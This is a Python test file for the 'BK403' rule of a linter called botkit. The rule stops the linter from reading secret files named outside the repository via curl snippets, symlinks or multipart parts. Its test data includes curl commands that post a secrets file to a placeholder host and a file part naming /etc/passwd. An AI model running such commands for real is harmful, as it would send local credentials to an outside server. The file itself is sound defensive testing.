"""BK403: lint never reads a file named outside the repository, and says where it is named.

Each test builds a small repository (a folder with ``.git``) beside a secrets file,
then lints with the real CLI in every format: the file's content never shows, the
finding points at the ``@file`` (or the ``file`` part), and files inside the
repository are still read and checked as before.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import click
import pytest
from click.testing import CliRunner, Result

from botkit.cli import main

SECRET = "Ci7SecretQ9zXw2LmR4"
FORMATS = ["text", "json", "github", "sarif"]


def run(*args: str, cwd: Path) -> Result:
    command = click.Command("botkit", callback=lambda: main(list(args)))
    old = os.getcwd()
    os.chdir(cwd)
    try:
        return CliRunner().invoke(command, [], catch_exceptions=False)
    finally:
        os.chdir(old)


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    (tmp_path / "ci-secrets.json").write_text(json.dumps({"token": SECRET, "x": "Bad Header"}))
    (tmp_path / "headers.txt").write_text(f"X Not A Header {SECRET}\n")
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "snippets").mkdir()
    return root


OUTSIDE = [
    "curl -d @../../ci-secrets.json https://h.example/x",
    "curl --json @../../ci-secrets.json https://h.example/x",
    "curl -H @../../headers.txt https://h.example/x",
    "curl -F 'a=<../../ci-secrets.json' https://h.example/x",
    "curl --data-urlencode 'a@../../ci-secrets.json' https://h.example/x",
    "curl -T ../../ci-secrets.json https://h.example/x",
    "curl -d @- https://h.example/x < ../../ci-secrets.json",
]


@pytest.mark.parametrize("command", OUTSIDE)
def test_an_at_file_outside_the_repository_is_not_read_and_is_flagged(
    repo: Path, command: str
) -> None:
    snippet = repo / "snippets" / "call.sh"
    snippet.write_text(command + "\n")
    name_column = command.index("../") + 1
    word_column = command.rfind(" ", 0, name_column) + 2
    for fmt in FORMATS:
        result = run("lint", "--format", fmt, "snippets/call.sh", cwd=repo)
        assert SECRET not in result.stdout + result.stderr
        assert "BK403" in result.stdout, result.stdout
        assert "Traceback" not in result.stdout + result.stderr
    text = run("lint", "snippets/call.sh", cwd=repo).stdout
    found = re.search(r"call\.sh:1:(\d+): BK403 reads '\.\./\.\./[a-z-]+\.(?:json|txt)'", text)
    assert found is not None, text
    assert word_column <= int(found.group(1)) <= name_column  # at the word naming the file


def test_a_link_that_leads_out_of_the_repository_is_outside(repo: Path) -> None:
    (repo / "snippets" / "body.json").symlink_to(repo.parent / "ci-secrets.json")
    (repo / "snippets" / "call.sh").write_text("curl -d @body.json https://h.example/x\n")
    result = run("lint", "snippets/call.sh", cwd=repo)
    assert "BK403" in result.stdout and SECRET not in result.stdout


def test_files_inside_the_repository_are_read_and_checked(repo: Path) -> None:
    (repo / "snippets" / "body.json").write_text('{"customerPhoneNumber": "12"}')
    (repo / "snippets" / "call.sh").write_text(
        "curl -X POST https://public.doubletick.io/team-member/assign "
        "-H 'Authorization: $DOUBLETICK_API_KEY' -H 'Content-Type: application/json' "
        "-d @body.json\n"
    )
    result = run("lint", "snippets/call.sh", cwd=repo)
    assert "BK403" not in result.stdout
    assert "customerPhoneNumber" in result.stdout  # the body was read: its phone is checked


def test_a_file_part_leaving_the_repository_is_flagged(repo: Path) -> None:
    parts = [
        {"name": "a", "file": "../../ci-secrets.json"},
        {"name": "b", "file": "/etc/passwd"},
        {"name": "c", "file": "photo.jpg"},
        {"name": "d", "file": "{{upload_path}}"},
    ]
    component = {
        "type": "call_api",
        "name": "Upload",
        "method": "POST",
        "url": "https://h.example/upload",
        "headers": [],
        "body": {"multipart": parts},
    }
    (repo / "upload.json").write_text(json.dumps(component, indent=2))
    result = run("lint", "--format", "json", "upload.json", cwd=repo)
    found = [f for f in json.loads(result.stdout) if f["code"] == "BK403"]
    assert [f["message"] for f in found] == [
        "the file part '../../ci-secrets.json' is outside the repository",
        "the file part '/etc/passwd' is outside the repository",
    ]
    lines = (repo / "upload.json").read_text().splitlines()
    assert "ci-secrets" in lines[found[0]["line"] - 1]
    assert "/etc/passwd" in lines[found[1]["line"] - 1]


def test_a_form_file_part_in_a_snippet_is_placed_at_its_option_value(repo: Path) -> None:
    """-F parts of a cURL snippet carry where they were written, like its headers."""
    snippet = (
        "curl https://h.example/upload \\\n"
        "  -F a=1 --form-string 'b=@x' \\\n"
        "     -F 'f=@../../ci-secrets.json'\n"
    )
    (repo / "snippets" / "up.curl").write_text(snippet)
    result = run("lint", "--format", "json", "snippets/up.curl", cwd=repo)
    found = [f for f in json.loads(result.stdout) if f["code"] == "BK403"]
    assert [(f["line"], f["column"]) for f in found] == [(3, 10)]
    assert SECRET not in result.stdout


def test_import_still_reads_the_files_its_user_names(repo: Path) -> None:
    # As curl does, import reads a name from the folder it runs in.
    (repo / "snippets" / "call.sh").write_text("curl -d @../ci-secrets.json https://h.example/x\n")
    result = run("import", "snippets/call.sh", cwd=repo)
    assert result.exit_code == 0 and SECRET in json.loads(result.stdout)["body"]["text"]


def test_a_named_pipe_behind_at_file_is_refused_not_waited_on(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "call.sh").write_text("curl -d @pipe https://h.example/x\n")
    imported = run("import", "call.sh", cwd=tmp_path)
    assert imported.exit_code == 2 and "named pipe" in imported.stderr
    linted = run("lint", "call.sh", cwd=tmp_path)
    assert linted.exit_code == 1 and "BK402" in linted.stdout and "named pipe" in linted.stdout


# --- the linted files themselves ---------------------------------------------------------

SNIPPET = "curl -H 'Authorization: YOUR_API_KEY' https://public.doubletick.io/x\n"


def _outside_target(repo: Path) -> Path:
    target = repo.parent / "netrc"
    target.write_text(f"curl -u bob:{SECRET} https://h.example/{SECRET}\n")
    return target


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_walked_link_out_of_the_repository_is_not_read(repo: Path, fmt: str) -> None:
    (repo / "snippets" / "creds.curl").symlink_to(_outside_target(repo))
    (repo / "snippets" / "ok.curl").write_text(SNIPPET)
    result = run("lint", "--format", fmt, ".", cwd=repo)
    assert SECRET not in result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    assert result.stdout.count("BK403") >= 1 and "BK202" in result.stdout
    assert "creds.curl" in result.stdout
    assert result.exit_code == 1  # the BK202 in ok.curl; BK403 is a warning


def test_a_file_under_a_linked_folder_out_of_the_repository_is_not_read(repo: Path) -> None:
    outside = repo.parent / "elsewhere"
    outside.mkdir()
    (outside / "x.curl").write_text(f"curl -u bob:{SECRET} https://h.example/x\n")
    (repo / "linked").symlink_to(outside)
    result = run("lint", "linked/x.curl", cwd=repo)
    assert SECRET not in result.stdout and "BK403" in result.stdout, result.stdout
    assert result.exit_code == 0  # a warning only


def test_fix_never_writes_through_a_link_out_of_the_repository(repo: Path) -> None:
    from lint_helpers import bot, dt_component

    body = {"customerPhoneNumber": "+91 98765 43210", "assignedUserPhoneNumber": "919812345678"}
    text = json.dumps(bot(dt_component(body)), indent=2) + "\n"
    inside = repo / "inside.json"
    inside.write_text(text)
    assert "BK103" in run("lint", "inside.json", cwd=repo).stdout  # a fixable finding
    run("lint", "--fix", "inside.json", cwd=repo)
    assert inside.read_text() != text  # fixed, inside the repository
    target = repo.parent / "bot.json"
    target.write_text(text)
    (repo / "bot.json").symlink_to(target)
    result = run("lint", "--fix", "bot.json", cwd=repo)
    assert "BK403" in result.stdout
    assert target.read_text() == text


def test_a_link_inside_the_repository_is_linted_as_its_target(repo: Path) -> None:
    (repo / "snippets" / "real.curl").write_text(SNIPPET)
    (repo / "alias.curl").symlink_to(repo / "snippets" / "real.curl")
    result = run("lint", "alias.curl", cwd=repo)
    assert "BK202" in result.stdout and "BK403" not in result.stdout


def test_a_named_file_outside_any_repository_is_linted(tmp_path: Path) -> None:
    (tmp_path / "real.curl").write_text(SNIPPET)
    (tmp_path / "link.curl").symlink_to(tmp_path / "real.curl")
    result = run("lint", str(tmp_path / "link.curl"), cwd=Path("/"))
    assert "BK202" in result.stdout and "BK403" not in result.stdout


def test_walked_names_that_are_not_files_are_findings_not_silence(repo: Path) -> None:
    (repo / "snippets" / "gone.curl").symlink_to(repo / "nowhere.curl")
    os.mkfifo(repo / "snippets" / "pipe.curl")
    result = run("lint", "--format", "json", ".", cwd=repo)
    found = {(f["path"], f["code"]): f["message"] for f in json.loads(result.stdout)}
    assert "link to nothing" in found[(os.path.join("snippets", "gone.curl"), "BK001")]
    assert "not a regular file" in found[(os.path.join("snippets", "pipe.curl"), "BK001")]
    assert result.exit_code == 2  # they could not be linted
